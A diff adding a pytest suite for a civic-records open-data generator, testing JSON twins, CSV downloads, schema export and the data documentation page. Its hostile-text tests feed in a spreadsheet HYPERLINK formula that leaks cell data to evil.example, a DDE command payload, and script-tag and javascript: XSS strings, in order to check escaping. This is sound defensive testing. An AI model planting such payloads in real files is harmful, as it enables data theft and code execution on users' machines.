@@ -1,0 +1,554 @@
+"""Open data: JSON twins, bulk downloads, the record schema, and the page that documents them.
+
+Counts are taken from the record files themselves (read raw, not through the corpus), so
+that a bug shared by the corpus and the data files cannot hide itself.
+"""
+
+from __future__ import annotations
+
+import copy
+import csv
+import datetime as dt
+import io
+import json
+import re
+import shutil
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+from jsonschema import Draft7Validator, Draft202012Validator
+from pydantic import ValidationError
+
+from civic_record.corpus import Corpus
+from civic_record.loading import load_corpus, read_record_file, record_paths
+from civic_record.models import MODELS
+from civic_record.outputs.data import (
+    KIND_COLUMNS,
+    ROLL_CALL_COLUMNS,
+    TIMELINE_COLUMNS,
+    generate_data,
+    kind_schema_path,
+)
+from civic_record.outputs.paths import RECORD_SCHEMA, RECORDS_JSON, ROLL_CALL_CSV, TIMELINE_CSV, json_twin, kind_csv
+from civic_record.pages.site import Site
+from civic_record.problems import Problems
+from civic_record.schema_export import kind_schema, record_schemas
+from civic_record.vocabulary import FOLDERS, RecordKind
+
+from .conftest import CORPUS, ROOT
+
+TODAY = dt.date(2026, 6, 1)
+SITE_URL = "https://records.example.org/riverton/"
+DATA_PAGE = ROOT / "docs" / "data.md"
+HOSTILE_TITLE = "</script><script>alert(1)</script>"
+FOLDERS_BY_TYPE = {kind.value: folder for folder, kind in FOLDERS.items()}
+VOTE_OPTIONS = ("yes", "no", "abstain", "absent", "excused", "not-voting", "paired", "present", "recused", "other")
+_DELETE = object()
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+
+
+def make_site(records: Path = CORPUS, licence: str = "", licence_url: str = "") -> Site:
+    corpus, problems = load_corpus(records)
+    assert not problems.errors, problems.report()
+    return Site(corpus, TODAY, site_url=SITE_URL, licence=licence, licence_url=licence_url)
+
+
+@pytest.fixture(scope="module")
+def site() -> Site:
+    return make_site(licence="CC0 1.0", licence_url="https://creativecommons.org/publicdomain/zero/1.0/")
+
+
+@pytest.fixture(scope="module")
+def data(site: Site) -> dict[str, str]:
+    return generate_data(site)
+
+
+@pytest.fixture(scope="module")
+def raw_records() -> dict[str, tuple[RecordKind, dict[str, Any]]]:
+    """Every fixture record as written: the YAML mapping or front matter, before any model."""
+    problems = Problems()
+    found: dict[str, tuple[RecordKind, dict[str, Any]]] = {}
+    for kind, path in record_paths(CORPUS, problems):
+        raw = read_record_file(kind, path, problems)
+        assert raw is not None, path
+        found[raw.record_id] = (kind, raw.data)
+    assert not problems.errors, problems.report()
+    return found
+
+
+def rows(data: dict[str, str], path: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data[path], newline="")))
+
+
+def header(data: dict[str, str], path: str) -> list[str]:
+    return next(csv.reader(io.StringIO(data[path], newline="")))
+
+
+def validator(schema: dict[str, Any]) -> Draft202012Validator:
+    Draft202012Validator.check_schema(schema)
+    return Draft202012Validator(schema)
+
+
+def editor_validators(schema: dict[str, Any]) -> list[Draft7Validator | Draft202012Validator]:
+    """A per-kind schema as the VS Code YAML extension reads it (draft-07), and as 2020-12."""
+    Draft7Validator.check_schema(schema)
+    return [Draft7Validator(schema), validator(schema)]
+
+
+# --- Files and twins -----------------------------------------------------------------------
+
+
+def test_every_file_is_at_its_documented_path(site: Site, data: dict[str, str]) -> None:
+    records = site.corpus.records.values()
+    expected = {json_twin(r) for r in records}
+    expected |= {RECORDS_JSON, ROLL_CALL_CSV, TIMELINE_CSV, RECORD_SCHEMA}
+    expected |= {kind_csv(folder) for folder in FOLDERS}
+    expected |= {kind_schema_path(kind) for kind in RecordKind}
+    assert set(data) == expected
+    assert len(site.corpus.records) == 22
+    assert "votes/2025-06-10-council-vote-face-recognition-policy.json" in data
+    assert "data/schema/vote.json" in data
+    assert all(text.endswith("\n") for text in data.values())
+
+
+def test_a_twin_is_the_record_in_an_envelope(site: Site, data: dict[str, str]) -> None:
+    meeting = json.loads(data["meetings/2025-05-20-public-hearing-face-recognition.json"])
+    assert set(meeting) == {"id", "type", "url", "record", "text"}
+    assert meeting["type"] == "meeting"
+    assert meeting["url"] == SITE_URL + "meetings/2025-05-20-public-hearing-face-recognition/"
+    assert meeting["text"] == "Notes of a fictional hearing."
+    # The record's own `kind` stays in the record, in the contract's spelling.
+    assert meeting["record"]["kind"] == "public-hearing"
+    assert meeting["record"]["time"] == "18:00"
+    assert meeting["record"]["identifiers"] == {"council_meeting": "4401"}
+    letter = json.loads(data["letters/2025-03-20-council-letter-on-face-recognition.json"])
+    assert "from" in letter["record"] and "signatories" not in letter["record"]
+    person = json.loads(data["people/ada-okafor.json"])
+    assert person["type"] == "person" and person["text"] is None
+    technology = json.loads(data["technologies/rpd-license-plate-readers.json"])
+    assert technology["record"]["status_history"][0]["date"] == "2024"  # precision kept
+
+
+def test_twins_are_lossless(site: Site, data: dict[str, str]) -> None:
+    for record in site.corpus.records.values():
+        twin = json.loads(data[json_twin(record)])
+        assert twin["id"] == record.id
+        assert MODELS[record.kind].model_validate(twin["record"]) == record, record.id
+
+
+def test_every_record_of_a_kind_has_the_same_shape(site: Site, data: dict[str, str]) -> None:
+    shapes: dict[str, set[frozenset[str]]] = {}
+    for record in site.corpus.records.values():
+        twin = json.loads(data[json_twin(record)])
+        shapes.setdefault(twin["type"], set()).add(frozenset(twin["record"]))
+    assert all(len(keys) == 1 for keys in shapes.values()), shapes
+
+
+def test_records_json_has_every_record_once(site: Site, data: dict[str, str]) -> None:
+    bundle = json.loads(data[RECORDS_JSON])
+    assert bundle["licence"] == "CC0 1.0"
+    assert bundle["licence_url"] == "https://creativecommons.org/publicdomain/zero/1.0/"
+    assert bundle["site"] == site.site_name
+    assert bundle["schema"] == SITE_URL + RECORD_SCHEMA
+    files = sorted(p.stem for p in CORPUS.rglob("*") if p.suffix in {".yml", ".md"} and p.parent != CORPUS)
+    assert sorted(r["id"] for r in bundle["records"]) == files
+    kinds = list(FOLDERS.values())
+    order = [(kinds.index(RecordKind(r["type"])), r["id"]) for r in bundle["records"]]
+    assert order == sorted(order)
+    for twin in bundle["records"]:
+        assert twin == json.loads(data[f"{FOLDERS_BY_TYPE[twin['type']]}/{twin['id']}.json"])
+
+
+def test_without_a_licence_the_fields_are_null() -> None:
+    bundle = json.loads(generate_data(make_site())[RECORDS_JSON])
+    assert bundle["licence"] is None and bundle["licence_url"] is None
+
+
+def test_two_generations_are_byte_identical(data: dict[str, str]) -> None:
+    again = generate_data(
+        make_site(licence="CC0 1.0", licence_url="https://creativecommons.org/publicdomain/zero/1.0/")
+    )
+    assert list(again) == list(data)
+    assert again == data
+
+
+def test_an_empty_corpus_gives_headers_only() -> None:
+    empty = generate_data(Site(Corpus(CORPUS, {}), TODAY))
+    assert json.loads(empty[RECORDS_JSON])["records"] == []
+    for folder, columns in KIND_COLUMNS.items():
+        assert empty[kind_csv(folder)] == ",".join(columns) + "\r\n"
+
+
+# --- Schema --------------------------------------------------------------------------------
+
+
+def test_the_exported_schemas_are_valid_draft_2020_12(data: dict[str, str]) -> None:
+    combined = json.loads(data[RECORD_SCHEMA])
+    assert combined == json.loads(json.dumps(record_schemas()))
+    assert combined["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+    validator(combined)
+    for kind in RecordKind:
+        schema = json.loads(data[kind_schema_path(kind)])
+        assert schema == json.loads(json.dumps(kind_schema(kind)))
+        assert schema["$schema"] == "http://json-schema.org/draft-07/schema#"
+        assert "$defs" not in json.dumps(schema)
+        editor_validators(schema)
+        # draft-07 ignores the neighbours of a `$ref`: none may carry a constraint.
+        assert not [node for node in _nodes(schema) if "$ref" in node and set(node) - REF_NEIGHBOURS], kind
+
+
+REF_NEIGHBOURS = {"$ref", "default", "title", "description"}
+
+
+def _nodes(value: object) -> list[dict[str, Any]]:
+    if isinstance(value, dict):
+        return [value, *(node for item in value.values() for node in _nodes(item))]
+    if isinstance(value, list):
+        return [node for item in value for node in _nodes(item)]
+    return []
+
+
+def test_every_twin_validates_against_the_schema(site: Site, data: dict[str, str]) -> None:
+    combined = validator(json.loads(data[RECORD_SCHEMA]))
+    for record in site.corpus.records.values():
+        twin = json.loads(data[json_twin(record)])
+        for own in editor_validators(json.loads(data[kind_schema_path(record.kind)])):
+            assert not list(own.iter_errors(twin["record"])), record.id
+        assert combined.is_valid(twin["record"]), record.id
+
+
+def test_the_record_files_as_written_validate(raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]) -> None:
+    combined = validator(record_schemas())
+    assert len(raw_records) == 22
+    for record_id, (kind, mapping) in raw_records.items():
+        for own in editor_validators(kind_schema(kind)):
+            errors = [e.message for e in own.iter_errors(mapping)]
+            assert not errors, f"{record_id}: {errors}"
+        assert combined.is_valid(mapping), record_id
+    # The files use what the schema must widen: numbers kept as text, a year as a number.
+    vote = raw_records["2025-06-10-council-vote-face-recognition-policy"][1]
+    assert isinstance(vote["matter"]["identifier"], int)
+    tech = raw_records["rpd-license-plate-readers"][1]
+    assert isinstance(tech["status_history"][0]["date"], int)
+
+
+def test_an_unknown_field_fails_the_schema(raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]) -> None:
+    for record_id, (kind, mapping) in raw_records.items():
+        typo = {**mapping, "sumary": "a typo"}
+        for own in editor_validators(kind_schema(kind)):
+            errors = list(own.iter_errors(typo))
+            assert errors, record_id
+            assert any("sumary" in e.message for e in errors)
+        assert not validator(record_schemas()).is_valid(typo), record_id
+
+
+def _letter() -> dict[str, Any]:
+    return {
+        "title": "A letter",
+        "date": "2025-05-14",
+        "summary": "A letter.",
+        "sources": [{"url": "https://example.org/a", "title": "A", "kind": "primary"}],
+    }
+
+
+def _vote() -> dict[str, Any]:
+    return {
+        "title": "A vote",
+        "date": 2025,
+        "body": "council",
+        "result": "pass",
+        "summary": "A vote.",
+        "sources": [{"attachment": "a.pdf", "title": "A", "kind": "primary"}],
+        "roll_call": {"yes": ["a", "b"], "excused": None},
+        "raw_values": {"yes": "Aye"},
+    }
+
+
+def _with(base: dict[str, Any], path: tuple[str | int, ...], value: object) -> dict[str, Any]:
+    changed = copy.deepcopy(base)
+    target: Any = changed
+    for step in path[:-1]:
+        target = target[step]
+    if value is _DELETE:
+        del target[path[-1]]
+    else:
+        target[path[-1]] = value
+    return changed
+
+
+AGREEMENT_CASES: list[tuple[str, RecordKind, dict[str, Any], bool]] = [
+    ("minimal letter", RecordKind.LETTER, _letter(), True),
+    ("id as the file name", RecordKind.LETTER, _with(_letter(), ("id",), "2025-05-14-a"), True),
+    ("empty cc", RecordKind.LETTER, _with(_letter(), ("cc",), None), True),
+    ("from", RecordKind.LETTER, _with(_letter(), ("from",), ["a", "b"]), True),
+    ("time", RecordKind.LETTER, _with(_letter(), ("time",), "18:00"), True),
+    ("bad time", RecordKind.LETTER, _with(_letter(), ("time",), "25:00"), False),
+    ("response_requested text", RecordKind.LETTER, _with(_letter(), ("response_requested",), "yes"), False),
+    ("identifier number", RecordKind.LETTER, _with(_letter(), ("identifiers",), {"legistar_file": 250457}), True),
+    ("unknown confidence", RecordKind.LETTER, _with(_letter(), ("confidence",), "sure"), False),
+    ("no sources", RecordKind.LETTER, _with(_letter(), ("sources",), []), False),
+    ("no summary", RecordKind.LETTER, _with(_letter(), ("summary",), _DELETE), False),
+    ("ftp source", RecordKind.LETTER, _with(_letter(), ("sources", 0, "url"), "ftp://example.org/a"), False),
+    ("source nowhere", RecordKind.LETTER, _with(_letter(), ("sources", 0, "url"), _DELETE), False),
+    ("source unknown field", RecordKind.LETTER, _with(_letter(), ("sources", 0, "link"), "x"), False),
+    ("date as text", RecordKind.LETTER, _with(_letter(), ("date",), "2025-05"), True),
+    ("date not a date", RecordKind.LETTER, _with(_letter(), ("date",), "May 2025"), False),
+    ("vote", RecordKind.VOTE, _vote(), True),
+    ("unknown option", RecordKind.VOTE, _with(_vote(), ("roll_call", "maybe"), ["c"]), False),
+    ("counts", RecordKind.VOTE, _with(_vote(), ("counts",), {"yes": 2}), True),
+    ("negative count", RecordKind.VOTE, _with(_vote(), ("counts",), {"yes": -1}), False),
+    ("unknown result", RecordKind.VOTE, _with(_vote(), ("result",), "passed"), False),
+    ("vote's kind", RecordKind.VOTE, _with(_vote(), ("kind",), "regular"), False),
+    ("matter number", RecordKind.VOTE, _with(_vote(), ("matter",), {"identifier": 250101}), True),
+    ("body", RecordKind.BODY, {"name": "Council", "kind": "legislature", "seats": 15}, True),
+    ("body without kind", RecordKind.BODY, {"name": "Council"}, False),
+    ("no seats", RecordKind.BODY, {"name": "Council", "kind": "legislature", "seats": 0}, False),
+    ("bare link", RecordKind.BODY, {"name": "C", "kind": "court", "links": ["https://example.org"]}, True),
+    ("link object", RecordKind.BODY, {"name": "C", "kind": "court", "links": [{"url": "http://x.org"}]}, True),
+    ("link not web", RecordKind.BODY, {"name": "C", "kind": "court", "links": ["javascript:alert(1)"]}, False),
+    ("extra", RecordKind.BODY, {"name": "C", "kind": "court", "extra": {"anything": [1, {"a": None}]}}, True),
+    ("role", RecordKind.PERSON, {"name": "A", "roles": [{"body": "c", "title": "M", "district": 8}]}, True),
+    ("role without title", RecordKind.PERSON, {"name": "A", "roles": [{"body": "c"}]}, False),
+    (
+        "status history",
+        RecordKind.TECHNOLOGY,
+        {"title": "T", "category": "alpr", "status_history": [{"date": 2024, "status": "in-use", "record": "r"}]},
+        True,
+    ),
+    ("unknown category", RecordKind.TECHNOLOGY, {"title": "T", "category": "lasers"}, False),
+    ("meeting kind", RecordKind.MEETING, {**_letter(), "body": "c", "kind": "listening-session"}, True),
+    ("document needs kind", RecordKind.DOCUMENT, _letter(), False),
+    ("sop", RecordKind.SOP, {**_letter(), "series": "s", "version": 2, "status": "draft"}, True),
+]
+
+
+@pytest.mark.parametrize(
+    ("kind", "mapping", "valid"),
+    [case[1:] for case in AGREEMENT_CASES],
+    ids=[case[0] for case in AGREEMENT_CASES],
+)
+def test_the_schema_agrees_with_the_models(kind: RecordKind, mapping: dict[str, Any], valid: bool) -> None:
+    """What an editor accepts, the generator accepts, and the other way round."""
+    try:
+        MODELS[kind].model_validate({"id": "2025-05-14-a", **mapping})
+        model_valid = True
+    except ValidationError:
+        model_valid = False
+    assert model_valid is valid
+    for own in editor_validators(kind_schema(kind)):
+        assert own.is_valid(mapping) is valid
+
+
+def test_the_schema_is_stricter_where_the_loader_is() -> None:
+    """The schema checks an id's form (the loader reports `record.invalid-id` from the file name),
+    and like the models it knows fields only by their contract names."""
+    letter = validator(kind_schema(RecordKind.LETTER))
+    # An id must look like an id (the loader reports `record.invalid-id` from the file name).
+    assert letter.is_valid(_with(_letter(), ("id",), "2025-05-14-a"))
+    assert not letter.is_valid(_with(_letter(), ("id",), "Not An Id"))
+    # `signatories` is the models' Python name for `from`: neither the models nor the schema take it.
+    with pytest.raises(ValidationError):
+        MODELS[RecordKind.LETTER].model_validate({"id": "a", **_letter(), "signatories": ["a"]})
+    assert not letter.is_valid(_with(_letter(), ("signatories",), ["a"]))
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+
+def test_every_csv_has_its_columns_and_one_row_per_record(data: dict[str, str]) -> None:
+    for folder, columns in KIND_COLUMNS.items():
+        assert header(data, kind_csv(folder)) == list(columns)
+        on_disk = sorted(p.stem for p in (CORPUS / folder).rglob("*") if p.suffix in {".yml", ".md"})
+        listed = rows(data, kind_csv(folder))
+        assert len(listed) == len(on_disk) > 0, folder
+        assert sorted(row["id"] for row in listed) == on_disk
+        for row in listed:
+            assert None not in row and None not in row.values(), (folder, row["id"])
+            assert row["url"] == f"{SITE_URL}{folder}/{row['id']}/"
+            assert row["json_url"] == f"{SITE_URL}{folder}/{row['id']}.json"
+    assert header(data, ROLL_CALL_CSV) == list(ROLL_CALL_COLUMNS)
+    assert header(data, TIMELINE_CSV) == list(TIMELINE_COLUMNS)
+
+
+def test_dated_rows_are_in_date_order(data: dict[str, str]) -> None:
+    documents = [row["id"] for row in rows(data, kind_csv("documents"))]
+    assert documents == [
+        "2024-riverton-surveillance-inventory",
+        "2025-03-04-rpd-press-release-face-recognition",
+        "2025-08-rpd-license-plate-reader-report",
+    ]
+    meeting = rows(data, kind_csv("meetings"))[0]
+    assert meeting["time"] == "18:00"
+    assert meeting["kind"] == "public-hearing"
+    assert meeting["identifiers"] == "council_meeting=4401"
+    assert meeting["has_text"] == "true"
+
+
+def test_roll_call_rows_are_one_per_member_vote(
+    data: dict[str, str], raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]
+) -> None:
+    expected: Counter[tuple[str, str]] = Counter()
+    for record_id, (kind, mapping) in raw_records.items():
+        if kind is RecordKind.VOTE:
+            for option, names in (mapping.get("roll_call") or {}).items():
+                expected[(record_id, option)] += len(names or [])
+    listed = rows(data, ROLL_CALL_CSV)
+    assert len(listed) == sum(expected.values()) == 4
+    assert Counter((row["vote_id"], row["option"]) for row in listed) == +expected
+    # A vote known only by its tally contributes no rows.
+    assert not [row for row in listed if row["vote_id"] == "2025-06-24-committee-vote-license-plate-readers"]
+    dan = next(row for row in listed if row["person_id"] == "dan-price")
+    assert (dan["option"], dan["raw_value"], dan["person_name"], dan["matter_identifier"]) == (
+        "no",
+        "Nay",
+        "Dan Price",
+        "250101",
+    )
+    assert next(row for row in listed if row["person_id"] == "zoe-ruiz")["person_name"] == "Zoë Ruíz"
+
+
+def test_roll_call_rows_add_up_to_each_votes_tally(data: dict[str, str]) -> None:
+    per_option = Counter((row["vote_id"], row["option"]) for row in rows(data, ROLL_CALL_CSV))
+    for vote in rows(data, kind_csv("votes")):
+        tallies = {option: int(vote[option]) for option in VOTE_OPTIONS if vote[option]}
+        assert tallies, vote["id"]
+        if vote["named_roll_call"] == "true":
+            named = {option: n for (vote_id, option), n in per_option.items() if vote_id == vote["id"]}
+            assert named == tallies, vote["id"]
+        else:
+            assert vote["named_roll_call"] == "false"
+            assert not any(vote_id == vote["id"] for vote_id, _ in per_option)
+    first = rows(data, kind_csv("votes"))[0]
+    assert (first["yes"], first["no"], first["excused"], first["absent"]) == ("2", "1", "1", "")
+
+
+def test_timeline_rows_are_entries_and_status_changes(
+    data: dict[str, str], raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]
+) -> None:
+    entries = 0
+    changes = 0
+    for kind, mapping in raw_records.values():
+        if kind is RecordKind.TECHNOLOGY:
+            changes += len(mapping.get("status_history") or [])
+        elif kind not in (RecordKind.BODY, RecordKind.PERSON):
+            named = set(mapping.get("technologies") or [])
+            for item in mapping.get("agenda") or []:
+                named.update(item.get("technologies") or [])
+            entries += len(named)
+    listed = rows(data, TIMELINE_CSV)
+    assert Counter(row["entry_type"] for row in listed) == {"record": entries, "status-change": changes}
+    assert (entries, changes) == (11, 4)
+    for tech_id in {row["technology_id"] for row in listed}:
+        mine = [row for row in listed if row["technology_id"] == tech_id]
+        assert mine == sorted(mine, key=lambda r: (r["date"], r["entry_type"] == "status-change"))
+    approved = next(row for row in listed if row["status"] == "approved-with-conditions")
+    assert approved["record_type"] == "vote"
+    assert approved["url"] == SITE_URL + "votes/2025-06-10-council-vote-face-recognition-policy/"
+    assert approved["title"] == "Council adopts the face recognition use policy (fictional)"
+
+
+# --- Hostile text --------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Site, dict[str, str]]:
+    records = tmp_path_factory.mktemp("hostile") / "records"
+    shutil.copytree(CORPUS, records)
+    (records / "documents" / "2025-09-01-hostile.md").write_text(
+        "---\n"
+        f"title: {json.dumps(HOSTILE_TITLE)}\n"
+        "date: 2025-09-01\n"
+        "kind: statement\n"
+        f"summary: {json.dumps(FORMULA)}\n"
+        'tags: ["+cmd|\' /C calc\'!A0", "@SUM(1+1)", "-2+3", "ok"]\n'
+        'identifiers: {x: "=1+1"}\n'
+        "technologies: [rpd-face-recognition]\n"
+        "sources:\n"
+        '  - {url: "https://example.org/a?b=<c>&d", title: "\\t=2+2", kind: press}\n'
+        "---\n"
+        "<script>alert('text')</script> & more\n",
+        encoding="utf-8",
+    )
+    site = make_site(records)
+    return site, generate_data(site)
+
+
+def test_csv_cells_never_start_a_formula(hostile: tuple[Site, dict[str, str]]) -> None:
+    _, data = hostile
+    row = next(r for r in rows(data, kind_csv("documents")) if r["id"] == "2025-09-01-hostile")
+    assert row["summary"] == "'" + FORMULA
+    assert row["tags"] == "'+cmd|' /C calc'!A0;@SUM(1+1);-2+3;ok"
+    assert row["identifiers"] == "x==1+1"
+    assert row["title"] == HOSTILE_TITLE  # not a formula: kept as is
+    for path in [p for p in data if p.endswith(".csv")]:
+        for cells in csv.reader(io.StringIO(data[path], newline="")):
+            bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+            assert not bad, (path, bad)
+
+
+def test_json_twins_hold_no_markup(hostile: tuple[Site, dict[str, str]]) -> None:
+    _, data = hostile
+    text = data["documents/2025-09-01-hostile.json"]
+    twin = json.loads(text)
+    assert twin["record"]["title"] == HOSTILE_TITLE
+    assert twin["text"] == "<script>alert('text')</script> & more"
+    assert twin["record"]["sources"][0]["url"] == "https://example.org/a?b=<c>&d"
+    for path in [p for p in data if p.endswith(".json")]:
+        assert not re.search(r"[<>&\u2028\u2029]", data[path]), path
+    assert "\\u003c/script\\u003e" in text
+    bundle = json.loads(data[RECORDS_JSON])
+    assert any(r["record"].get("title") == HOSTILE_TITLE for r in bundle["records"])
+
+
+# --- The Data page -------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def page() -> str:
+    return DATA_PAGE.read_text(encoding="utf-8")
+
+
+def _section(page: str, heading: str) -> str:
+    start = page.index(heading)
+    following = re.search(r"^#{1,3} ", page[start + len(heading) :], re.MULTILINE)
+    end = start + len(heading) + following.start() if following else len(page)
+    return page[start:end]
+
+
+def _table_columns(section: str) -> list[str]:
+    found: list[str] = []
+    for match in re.finditer(r"^\| (`[^|]*`(?:, `[^|]*`)*) \|", section, re.MULTILINE):
+        found.extend(re.findall(r"`([^`]+)`", match.group(1)))
+    return found
+
+
+def _listed_order(section: str) -> list[str]:
+    line = re.search(r"^Columns, in order: (.*)\.$", section, re.MULTILINE)
+    assert line, section[:80]
+    return re.findall(r"`([^`]+)`", line.group(1))
+
+
+def test_the_data_page_documents_every_column(page: str) -> None:
+    shared = _table_columns(_section(page, "### Columns shared by the per-kind files"))
+    files = {kind_csv(folder): columns for folder, columns in KIND_COLUMNS.items()}
+    files[ROLL_CALL_CSV] = ROLL_CALL_COLUMNS
+    files[TIMELINE_CSV] = TIMELINE_COLUMNS
+    for path, columns in files.items():
+        section = _section(page, f"### `{path}`")
+        assert _listed_order(section) == list(columns), path
+        own = _table_columns(section)
+        assert len(own) == len(set(own)), path
+        defined = set(own) | (set(shared) if path in {kind_csv(f) for f in KIND_COLUMNS} else set())
+        assert set(columns) <= defined, (path, sorted(set(columns) - defined))
+        assert set(own) <= set(columns), (path, sorted(set(own) - set(columns)))
+
+
+def test_the_data_page_links_every_bulk_file(page: str, data: dict[str, str]) -> None:
+    for path in data:
+        if path.startswith("data/"):
+            assert f"]({path})" in page, path
+    assert page.startswith("# Data\n")
+    for words in ("licence_url", "yaml-language-server: $schema=", "yaml.schemas", "cannot fall out of step"):
+        assert words in page
